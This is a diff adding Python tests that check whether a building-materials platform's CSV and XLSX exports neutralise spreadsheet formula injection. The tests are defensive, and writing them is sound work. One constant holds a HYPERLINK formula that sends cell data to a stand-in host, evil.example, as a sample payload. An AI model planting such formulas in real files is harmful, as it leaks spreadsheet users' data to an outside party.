@@ -179,3 +179,83 @@ def test_hub_stock_csv(client_for, chain, harvested_lot):
     result = parse_inventory(r.content, "stock.csv", known_product_groups=codes)
     assert result.ok, [str(e) for e in result.errors]
     assert result.rows[0].quantity == 10000 and result.rows[0].mass_kg_per_unit == Decimal("2.1")
+
+
+# ----------------------------------------------------------- formula injection (finding)
+#: A description a spreadsheet would run: Excel turns it into a link that sends the data.
+EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
+
+
+def _evil_lot(chain, harvested_lot, description=EVIL):
+    Lot.objects.filter(pk=harvested_lot.pk).update(description=description)
+    chain.hub.name = "@Hub Waalhaven"
+    chain.hub.save()
+    chain.owner.name = "+Woningcorporatie"
+    chain.owner.save()
+
+
+def test_the_supply_csv_neutralises_formulas(anon, client, chain, harvested_lot):
+    _evil_lot(chain, harvested_lot)
+    for content in (
+        anon.get("/api/v1/supply.csv").content,
+        client.get("/supply/?format=csv").content,
+    ):
+        (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
+        assert row["description"] == "'" + EVIL and row["hub"] == "'@Hub Waalhaven"
+        # numbers stay numbers
+        assert row["quantity"] == "10000" and row["mass_kg_total"] == "21000"
+        assert float(row["lat"]) == 51.89
+
+
+def test_the_supply_geojson_is_not_a_spreadsheet(anon, chain, harvested_lot):
+    _evil_lot(chain, harvested_lot)
+    (feature,) = anon.get("/api/v1/supply.geojson").json()["features"]
+    assert feature["properties"]["description"] == EVIL
+
+
+def test_the_hub_stock_csv_neutralises_formulas_and_still_reimports(
+    client_for, chain, harvested_lot
+):
+    _evil_lot(chain, harvested_lot)
+    r = client_for(chain.outsider_user).get(f"/api/v1/hubs/{chain.hub.pk}/stock.csv")
+    (row,) = csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))
+    assert row["description"] == "'" + EVIL
+    assert row["owner"] == "'+Woningcorporatie" and row["hub"] == "'@Hub Waalhaven"
+    assert row["quantity"] == "10000" and row["dwell_days"] == "0"
+    codes = set(ProductGroup.objects.values_list("code", flat=True))
+    result = parse_inventory(r.content, "stock.csv", known_product_groups=codes)
+    assert result.ok and result.rows[0].description == EVIL
+
+
+def test_the_passport_workbook_holds_no_formula(client_for, chain, harvested_lot):
+    _evil_lot(chain, harvested_lot)
+    chain.building.name = "=1+1"
+    chain.building.save()
+    r = client_for(chain.owner_user).get(f"/api/v1/assets/{chain.building.pk}/passport.xlsx")
+    wb = openpyxl.load_workbook(io.BytesIO(r.content))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    description = wb["passport"].cell(row=2, column=PASSPORT_COLUMNS.index("description") + 1)
+    assert description.data_type == "s" and description.value == "'" + EVIL
+    quantity = wb["passport"].cell(row=2, column=PASSPORT_COLUMNS.index("quantity") + 1)
+    assert quantity.data_type == "n" and quantity.value == 10000
+    meta = dict(wb["metadata"].iter_rows(min_row=2, values_only=True))
+    assert meta["asset_name"] == "'=1+1" and meta["owner"] == "'+Woningcorporatie"
+
+
+def test_the_passport_with_formulas_round_trips(client_for, chain, harvested_lot):
+    """The quote the export adds is dropped on re-import: the same descriptions."""
+    _passport(chain)
+    _evil_lot(chain, harvested_lot)
+    Lot.objects.filter(product_group__code="steel-beams").update(description="-12 mm; @hal")
+    r = client_for(chain.owner_user).get(f"/api/v1/assets/{chain.building.pk}/passport.xlsx")
+    codes = set(ProductGroup.objects.values_list("code", flat=True))
+    result = parse_inventory(r.content, "passport.xlsx", known_product_groups=codes)
+    assert result.ok, [str(e) for e in result.errors]
+    lots = lots_import_inventory(
+        asset_id=chain.project.pk, rows=result.rows, source_name="passport.xlsx"
+    )
+    original = sorted(_lot_key(lot) for lot in Lot.objects.filter(source_asset=chain.building))
+    copied = sorted(_lot_key(Lot.objects.get(pk=lot.id)) for lot in lots)
+    assert copied == original
+    assert {lot[1] for lot in copied} >= {EVIL, "-12 mm; @hal"}
